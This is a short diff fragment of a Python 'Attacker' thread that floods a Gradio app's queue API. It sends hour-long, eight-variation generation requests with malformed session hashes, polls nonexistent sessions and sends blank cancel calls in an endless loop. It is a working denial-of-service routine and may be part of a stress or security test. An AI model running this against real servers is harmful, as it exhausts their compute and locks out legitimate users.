@@ -39,12 +39,13 @@ class Attacker(threading.Thread):
         self.answers: dict[int, int] = {}
 
     def run(self) -> None:
-        values = {"data": [None, 3600.0, 0, 8, *[1.0, 0.97, None, 0.0, None, 0.25, 0, 0.0, 0, 127]], "fn_index": 0}
-        values["fn_index"] = self._number_of_generate()
+        """Attack; each piece that it joins for would be an hour of eight variations."""
+        options = [1.0, 0.97, None, 0.0, None, 0.25, 0, 0.0, 0, 127]
+        values = {"data": [None, 3600.0, 0, 8, *options], "fn_index": self._number_of_generate()}
         for number in itertools.count():
             if self._ended.is_set():
                 return
-            for session in ("", None, 5, "x" * 1000, f"ghost{number}"):
+            for session in ("", None, 5, "x" * 1000, f"{self.name}-{number}"):
                 self._send("/gradio_api/queue/join", values | {"session_hash": session})
             self._send(f"/gradio_api/queue/data?session_hash=nobody{number}")
             self._send("/gradio_api/cancel", {"session_hash": "", "fn_index": 0, "event_id": ""})
